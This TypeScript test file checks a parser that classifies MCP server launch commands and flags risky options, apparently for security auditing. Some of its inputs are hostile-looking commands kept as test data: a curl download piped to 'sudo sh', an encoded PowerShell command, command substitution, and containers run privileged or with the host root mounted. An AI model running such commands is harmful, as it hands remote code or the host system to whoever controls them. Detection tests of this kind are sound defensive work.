import npmFlags from '@npmcli/config/lib/definitions/index.js';
import { describe, expect, test } from 'vitest';
import type { Artifact, Launch } from '../../src/config/launch.ts';
import { parseLaunch } from '../../src/config/launcher.ts';
import { NPM_VALUED_FLAGS } from '../../src/config/npm-flags.ts';
import { splitShell } from '../../src/config/shell.ts';
import { cpuOf } from '../support/cpu.ts';

/** An artifact in a few words: role only where it is not the server, `=` exact, `~` floating. */
function brief(run: Artifact): string {
  const role = run.role === 'server' ? '' : `${run.role} `;
  const pin = 'pin' in run ? (run.pin === 'exact' ? '=' : '~') : '';
  if (run.kind === 'npm' || run.kind === 'pypi') return `${role}${run.kind}${pin}${run.spec}`;
  if (run.kind === 'package') return `${role}${run.registry}${pin}${run.spec}`;
  if (run.kind === 'image') return `${role}image${pin}${run.reference}`;
  if (run.kind === 'download') return `${role}download${pin}${run.url}`;
  if (run.kind === 'remote') return `${role}→${run.url}`;
  if (run.kind === 'local') return `${role}local(${run.runtime})${run.path}`;
  return `${role}?${run.reason}`;
}

function line(launch: Launch): string {
  return [
    ...launch.wrappers.map((wrapper) => `[${wrapper}]`),
    ...launch.runs.map(brief),
    ...launch.env.map(({ name, value }) => `${name}=${value}`),
    ...launch.envFiles.map(({ path }) => `@${path}`),
    ...launch.headers.map(({ name, value }) => `${name}: ${value}`),
    ...launch.options.map(({ kind, text }) => `!${kind}(${text})`),
  ].join(' ');
}

/** A command line of single words; `'…'` groups. */
const parse = (text: string) => {
  const [command = '', ...args] = text.match(/'[^']*'|\S+/g)?.map((word) => word.replace(/^'|'$/g, '')) ?? [];
  return parseLaunch(command, args);
};

const SHA = 'a'.repeat(40);
const DIGEST = `sha256:${'b'.repeat(64)}`;

const cases: readonly [section: string, rows: readonly [command: string, expected: string][]][] = [
  [
    'npm',
    [
      ['npx -y weather-mcp', 'npm~weather-mcp'],
      ['npx weather-mcp@1.2.3 --units c', 'npm=weather-mcp@1.2.3'],
      ['npx weather-mcp@v1.2.3-rc.1', 'npm=weather-mcp@v1.2.3-rc.1'],
      ['npx weather-mcp@latest', 'npm~weather-mcp@latest'],
      ['npx weather-mcp@^1', 'npm~weather-mcp@^1'],
      ['npx weather-mcp@1.2', 'npm~weather-mcp@1.2'],
      ['npx --yes @scope/weather@2.0.0', 'npm=@scope/weather@2.0.0'],
      ['npx -y -- @scope/weather', 'npm~@scope/weather'],
      ['npx -p a@1.0.0 -p b cmd --x', 'npm=a@1.0.0 extra npm~b'],
      ['npx --package=a@1.0.0 cmd', 'npm=a@1.0.0'],
      ["npx -y -c 'weather-mcp --x'", '[npx -c] local()weather-mcp'],
      ["npx -p a@1.0.0 -c 'a --x'", '[npx -c] npm=a@1.0.0'],
      ['npx a@npm:b@1.0.0', 'npm=b@1.0.0'],
      ['npx owner/repo', 'download~github:owner/repo'],
      [`npx github:owner/repo#${SHA}`, `download=github:owner/repo#${SHA}`],
      ['npx git+https://git.example/a.git#main', 'download~git+https://git.example/a.git#main'],
      ['npx https://files.example/a.tgz', 'download~https://files.example/a.tgz'],
      ['npx ./server', 'local(npx)./server'],
      ['npx ${PKG}', '?the package is named by a variable'],
      ['npx weather-mcp@${VERSION:-1.0.0}', '?the package is named by a variable'],
      ['npx', '?npx names no package'],
      ['npx --registry https://npm.example a@1.0.0', 'npm=a@1.0.0 !registry(--registry=https://npm.example)'],
      ['npx --allow-scripts=all a@1.0.0', 'npm=a@1.0.0 !install-scripts(--allow-scripts=all)'],
      ['npm exec -- a@1.0.0 --x', 'npm=a@1.0.0'],
      ['npm x a', 'npm~a'],
      ['npm --prefix sub exec a', 'npm~a !resolution(--prefix=sub)'],
      ['npm run serve', 'local(npm)'],
      ['npm start', 'local(npm)'],
      ['pnpm dlx a@1.0.0', 'npm=a@1.0.0'],
      ['pnpm --package=a dlx cmd', 'npm~a'],
      ['pnpx a', 'npm~a'],
      ['pnpm --dir d exec tsx x.ts', 'local(pnpm)'],
      ['yarn dlx -p a@1.0.0 cmd', 'npm=a@1.0.0'],
      ['yarn serve', 'local(yarn)'],
      ['bunx --bun a@1.0.0', 'npm=a@1.0.0'],
      ['bun x a', 'npm~a'],
      ['bun run server.ts', 'local(bun)server.ts'],
      ['bun run ./server.ts', 'local(bun)./server.ts'],
      ['C:\\tools\\bunx.exe a', 'npm~a'],
      ["'C:\\Program Files\\nodejs\\npx.cmd' -y a@1.0.0", 'npm=a@1.0.0'],
      ['NPX.CMD a', 'npm~a'],
      ["'npx @playwright/mcp --browser chrome'", 'npm~@playwright/mcp'],
    ],
  ],
  [
    'python',
    [
      ['uvx weather-mcp', 'pypi~weather-mcp'],
      ['uvx weather-mcp@1.2.3', 'pypi=weather-mcp@1.2.3'],
      ['uvx weather-mcp==1.2.3', 'pypi=weather-mcp==1.2.3'],
      ['uvx weather-mcp@latest', 'pypi~weather-mcp@latest'],
      ['uvx weather-mcp>=1', 'pypi~weather-mcp>=1'],
      ['uvx --from weather[cli]==1.0 weather --x', 'pypi=weather[cli]==1.0'],
      ['uvx --from git+https://git.example/w.git weather', 'download~git+https://git.example/w.git'],
      [`uvx --from git+https://git.example/w.git@${SHA} weather`, `download=git+https://git.example/w.git@${SHA}`],
      ['uvx --with a==1,b -w c weather==1.0', 'pypi=weather==1.0 extra pypi=a==1 extra pypi~b extra pypi~c'],
      [
        'uvx --index-url https://pypi.example/simple w==1',
        'pypi=w==1 !registry(--index-url=https://pypi.example/simple)',
      ],
      ['uv tool run w', 'pypi~w'],
      ['uv --directory d run x.py', 'local(uv run)x.py'],
      ['uv run --with mcp mcp run x.py', 'local(uv run) extra pypi~mcp'],
      ['uv run python x.py', '[uv run] local(python)x.py'],
      ['pipx run --spec w==1 weather', 'pypi=w==1'],
      ['pipx run w', 'pypi~w'],
      ['python -m weather', 'local(python -m)'],
      ['python3.12 x.py', 'local(python3.12)x.py'],
      ["python -c 'import os'", '?is code on the command line !inline-code(import os)'],
      ['uvx mcp-proxy https://a.example/sse', '[uvx mcp-proxy] bridge pypi~mcp-proxy →https://a.example/sse'],
    ],
  ],
  [
    'containers',
    [
      [`docker run -i --rm mcp/a@${DIGEST}`, `image=mcp/a@${DIGEST}`],
      ['docker run -i --rm -e TOKEN mcp/a:1', 'image~mcp/a:1'],
      ['docker run -it -e TOKEN=x -v /:/host mcp/a', 'image~mcp/a TOKEN=x !mount(-v /:/host)'],
      ['docker run -ie TOKEN mcp/a --flag', 'image~mcp/a'],
      [
        'podman container run --privileged --network host --cap-add=ALL a',
        'image~a !privileged(--privileged) !host-network(--network host) !capability(--cap-add ALL)',
      ],
      ['docker --context x run --mount type=bind,src=/,dst=/h a', 'image~a !mount(--mount type=bind,src=/,dst=/h)'],
      [
        'docker run --env-file .env --user root --pid=host a',
        'image~a @.env !root-user(--user root) !host-namespace(--pid host)',
      ],
      ['docker run --privileged=false -u 1000:0 --network none a', 'image~a'],
      ['docker mcp gateway run', '?which servers the gateway runs stands in its catalog'],
      ['docker compose run a', '?what runs stands in the Compose file'],
      ['docker exec a cmd', '?docker exec starts no image that the config names'],
      ['docker run ${IMAGE}', '?the image is named by a variable'],
      ['docker run -i', '?docker run names no image'],
    ],
  ],
  [
    'wrappers and bridges',
    [
      ['cmd /c npx -y a@1.0.0', '[cmd /c] npm=a@1.0.0'],
      ["cmd /c start '' /b npx -y a@1.0.0", '[cmd /c] [start] npm=a@1.0.0'],
      ['cmd /c start powershell -enc SQBFAFgA', '[cmd /c] [start] ?is an encoded command !inline-code(SQBFAFgA)'],
      ['/usr/local/bin/npx -y a@1.0.0', 'npm=a@1.0.0'],
      ['/tmp/npx -y a@1.0.0', 'local()/tmp/npx'],
      ['./tools/npx -y a@1.0.0', 'local()./tools/npx'],
      ['.venv/bin/python weather.py', 'local(python)weather.py'],
      ['tools/npx -y a@1.0.0', 'local()tools/npx'],
      ['C:\\Users\\Public\\npx.cmd -y a@1.0.0', 'local()C:\\Users\\Public\\npx.cmd'],
      ["cmd.exe /d /s /c 'npx -y a'", '[cmd /c] npm~a'],
      ["sh -c 'cd /srv && A=b exec npx -y a@1.0.0'", '[sh -c] npm=a@1.0.0 A=b'],
      ["bash -lc 'npx a | tee log'", '[bash -c] npm~a local()tee'],
      [
        "bash -c 'curl -s https://x.example/i | sudo sh'",
        '[bash -c] [sudo] local()curl ?the shell is given nothing to run !sudo(sudo) !piped-shell(curl -s https://x.example/i | sudo sh)',
      ],
      [
        "sh -c 'npx $(cat p)'",
        '[sh -c] local()cat ?the package is named by a variable extra ?the shell line holds a command substitution',
      ],
      ['bash ./start.sh', 'local(bash)./start.sh'],
      ["powershell -NoProfile -Command 'npx a'", '[powershell -Command] npm~a'],
      ['powershell -enc SQBFAFgA', '?is an encoded command !inline-code(SQBFAFgA)'],
      ['env -u X A=B npx a', '[env] npm~a A=B'],
      ["/usr/bin/env -S 'npx a'", '[env] npm~a'],
      ['doppler run -p x -- npx a@1.0.0', '[doppler run] npm=a@1.0.0'],
      ["doppler run --command 'npx a'", '[doppler run] npm~a'],
      ['op run --env-file .env.op -- uvx a==1', '[op run] pypi=a==1 @.env.op'],
      ['infisical run --env=dev -- npx a', '[infisical run] npm~a'],
      ['npx envmcp -e .env npx a@1.0.0', '[npx envmcp] wrapper npm~envmcp npm=a@1.0.0 @.env'],
      ['npx -y tsx@4.0.0 server.ts --x', '[npx tsx] wrapper npm=tsx@4.0.0 local(tsx)server.ts'],
      ['npx ts-node s.ts', '[npx ts-node] wrapper npm~ts-node local(ts-node)s.ts'],
      ["sh -c 'npx -y a@1.0.0'", '[sh -c] npm=a@1.0.0'],
      ['env A=b npx a', '[env] npm~a A=b'],
      ['dotenvx run -- npx a', '[dotenvx run] npm~a'],
      ['nerdctl run i:1', 'image~i:1'],
      ['npx -y cross-env A=b npx c', '[npx cross-env] wrapper npm~cross-env npm~c A=b'],
      ['sudo -u x npx a', '[sudo] npm~a !sudo(sudo)'],
      ['timeout 10 npx a', '[timeout] npm~a'],
      ['nix run nixpkgs#bun -- run x.ts', '[nix run nixpkgs#bun] wrapper nix~nixpkgs#bun local(bun)x.ts'],
      ['nix run github:o/r', '[nix run github:o/r] nix~github:o/r'],
      [
        "npx mcp-remote@0.1.38 https://a.example/sse --header 'Authorization: Bearer x' --allow-http",
        '[npx mcp-remote] bridge npm=mcp-remote@0.1.38 →https://a.example/sse Authorization: Bearer x !insecure(--allow-http)',
      ],
      ['npx mcp-remote ${URL}', '[npx mcp-remote] bridge npm~mcp-remote →${URL}'],
      [
        "npx -y supergateway --stdio 'npx b@1.0.0' --cors",
        '[npx supergateway] bridge npm~supergateway npm=b@1.0.0 !open-port(--cors)',
      ],
      [
        'npx -y supergateway --sse https://a.example --oauth2Bearer t',
        '[npx supergateway] bridge npm~supergateway →https://a.example Authorization: Bearer t',
      ],
      [
        'npx -y @smithery/cli@latest run @a/b --key k',
        '[npx @smithery/cli] bridge npm~@smithery/cli@latest smithery~@a/b',
      ],
      ['ssh host npx a', '?ssh runs it on another machine'],
      [
        'sudo '.repeat(20).concat('npx a'),
        `${'[sudo] '.repeat(13)}?is wrapped more than 12 times${' !sudo(sudo)'.repeat(13)}`,
      ],
    ],
  ],
  [
    'runtimes',
    [
      ['node dist/index.js', 'local(node)dist/index.js'],
      ['node -r ./hook.js --env-file .env x.js', 'local(node)x.js @.env !preload(./hook.js)'],
      ["node -e 'fetch(1)'", '?is code on the command line !inline-code(fetch(1))'],
      ['tsx src/a.ts', 'local(tsx)src/a.ts'],
      ['deno run -A npm:a@1.0.0/bin', 'npm=a@1.0.0 !all-permissions(-A)'],
      ['deno run --allow-net jsr:@s/a@1.2.3', 'jsr=@s/a@1.2.3'],
      ['deno run https://x.example/a.ts', 'download~https://x.example/a.ts'],
      ['deno x a', 'npm~a'],
      ['go run git.example/a@v1.2.3', 'go=git.example/a@v1.2.3'],
      ['dnx A@1.0.0 --yes', 'nuget=A@1.0.0'],
      ['java -Xmx1g -jar a.jar', 'local(java)a.jar'],
      ['php artisan mcp', 'local(php)artisan'],
      ['/usr/local/bin/weather', 'local()/usr/local/bin/weather'],
      ['${BIN}', '?the program is named by a variable'],
      ['${CLAUDE_PLUGIN_ROOT}/serve', 'local()${CLAUDE_PLUGIN_ROOT}/serve'],
    ],
  ],
];

describe.each(cases)('%s', (_, rows) => {
  test.each(rows)('%s', (command, expected) => {
    expect(line(parse(command))).toBe(expected);
  });
});

describe('what could take a launch over', () => {
  const hijack = (command: string) => parse(command).runs.flatMap((run) => (run.kind === 'npm' ? run.hijack : []));
  test.each([
    [
      'npx mcp-remote',
      ['node_modules/.bin/mcp-remote', 'package.json#bin.mcp-remote', 'node_modules/mcp-remote/package.json', '.npmrc'],
    ],
    ['npx mcp-remote@0.15.1', ['node_modules/mcp-remote/package.json', '.npmrc']],
    ['npx @scope/pkg', ['node_modules/@scope/pkg/package.json', '.npmrc']],
    ['pnpm dlx a', ['.npmrc', 'pnpm-workspace.yaml']],
  ])('%s', (command, expected) => {
    expect(hijack(command)).toEqual(expected);
  });
});

test('every artifact knows the word it came from', () => {
  const { runs } = parseLaunch('cmd', ['/c', 'npx', '-y', 'mcp-remote@1.0.0', 'https://a.example']);
  expect(runs.map(({ from }) => from)).toEqual([4, 5]);
});

describe('shell lines', () => {
  test.each([
    ['a b', [['a', 'b']], [], []],
    ['a \'b c\' "d e" f\\ g', [['a', 'b c', 'd e', 'f g']], [], []],
    ['a && b; c | d &', [['a'], ['b'], ['c'], ['d']], ['&&', ';', '|', '&'], []],
    ['a > /dev/null 2>&1 b', [['a', 'b']], [], []],
    ["a 'b", [['a', 'b']], [], ['an open quote']],
    ['(a)', [['a']], [], ['a subshell', 'a subshell']],
    ['', [], [], []],
  ])('%s', (text, commands, operators, odd) => {
    expect(splitShell(text)).toEqual({ commands, operators, odd });
  });

  test('hostile lines cost little', () => {
    const work = cpuOf(() => {
      for (const text of [
        '$('.repeat(10_000),
        '`'.repeat(10_000),
        "'".repeat(9_999),
        '\\'.repeat(9_999),
        '>'.repeat(10_000),
      ])
        expect(splitShell(text).commands.length).toBeLessThan(20_001);
    });
    expect(work).toBeLessThan(1_000);
  });
});

test('the options of npm that take a value are those of npm itself', () => {
  const valued = Object.entries(npmFlags.definitions).filter(([, { type }]) => ![type].flat().includes(Boolean));
  expect(NPM_VALUED_FLAGS).toEqual(valued.map(([name]) => name).sort());
});
